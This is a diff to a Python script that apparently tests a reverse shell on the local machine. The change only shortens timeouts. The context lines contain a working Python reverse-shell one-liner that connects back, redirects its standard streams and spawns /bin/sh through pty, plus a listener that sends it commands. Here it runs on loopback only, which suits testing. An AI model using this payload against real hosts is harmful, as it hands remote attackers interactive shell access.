@@ -17,7 +17,7 @@ import threading
 listener = socket.socket()
 listener.bind(("127.0.0.1", 0))
 listener.listen(1)
-listener.settimeout(8)
+listener.settimeout(4)
 port = listener.getsockname()[1]
 transcript = []
 
@@ -27,7 +27,7 @@ def operator():
         conn, _ = listener.accept()
     except OSError:
         return
-    conn.settimeout(5)
+    conn.settimeout(3)
     conn.sendall(b"echo pty-uid-$(id -u)\nexit\n")
     data = b""
     try:
@@ -48,6 +48,6 @@ one_liner = (
     "s=__import__('socket').socket();s.connect(('127.0.0.1',%d));"
     "[__import__('os').dup2(s.fileno(),f) for f in(0,1,2)];"
     "__import__('pty').spawn('/bin/sh')" % port)
-subprocess.run([sys.executable, "-c", one_liner], timeout=8, stdin=subprocess.DEVNULL)
-thread.join(6)
+subprocess.run([sys.executable, "-c", one_liner], timeout=5, stdin=subprocess.DEVNULL)
+thread.join(3)
 print("operator transcript:", transcript)
